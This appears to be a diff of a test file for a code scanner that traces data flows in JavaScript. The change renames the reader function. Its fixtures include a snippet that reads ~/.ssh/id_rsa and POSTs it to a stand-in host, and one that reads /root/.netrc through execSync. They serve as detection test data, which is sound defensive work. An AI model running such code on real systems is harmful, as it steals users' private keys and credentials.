@@ -1,6 +1,6 @@
 import { describe, expect, it } from 'vitest'
 import { listFacts, listFlows, toExamples } from '../support/code-reading.ts'
-import { readJavaScript } from '../../packages/scanner/src/code/read-program.ts'
+import { readCodeText } from '../../packages/scanner/src/code/read-program.ts'
 
 const sent = [
   'secret-read ~/.ssh/id_rsa → network-send https://e.example/c ⟸ const fs = require("fs"), os = require("os"), path = require("path")\nconst k = fs.readFileSync(path.join(os.homedir(), ".ssh", "id_rsa"), "utf8")\nfetch("https://e.example/c", { method: "POST", body: JSON.stringify({ k }) })',
@@ -55,7 +55,7 @@ const run = [
 
 describe('a value of a JavaScript program', () => {
   it.each(toExamples([...sent, ...more, ...run]))('is followed from source to use: $program', ({ program, found }) => {
-    expect(listFlows(readJavaScript(program))).toEqual(expect.arrayContaining(found))
+    expect(listFlows(readCodeText('script', program))).toEqual(expect.arrayContaining(found))
   })
 
   it.each(
@@ -69,7 +69,7 @@ describe('a value of a JavaScript program', () => {
       'a fetched text that is written to a page ⟸ const r = await fetch("https://e.example/")\ndocument.body.textContent = await r.text()\neval("1")',
     ]),
   )('has no flow: $found', ({ program }) => {
-    expect(listFlows(readJavaScript(program))).toEqual([])
+    expect(listFlows(readCodeText('script', program))).toEqual([])
   })
 })
 
@@ -91,6 +91,6 @@ describe('an operation of a JavaScript program', () => {
       'secret-read /root/.netrc ⟸ require("child_process").execSync(`node -e "require(\'fs\').readFileSync(\'/root/.netrc\')"`)',
     ]),
   )('is found: $program', ({ program, found }) => {
-    expect(listFacts(readJavaScript(program))).toEqual(expect.arrayContaining(found))
+    expect(listFacts(readCodeText('script', program))).toEqual(expect.arrayContaining(found))
   })
 })
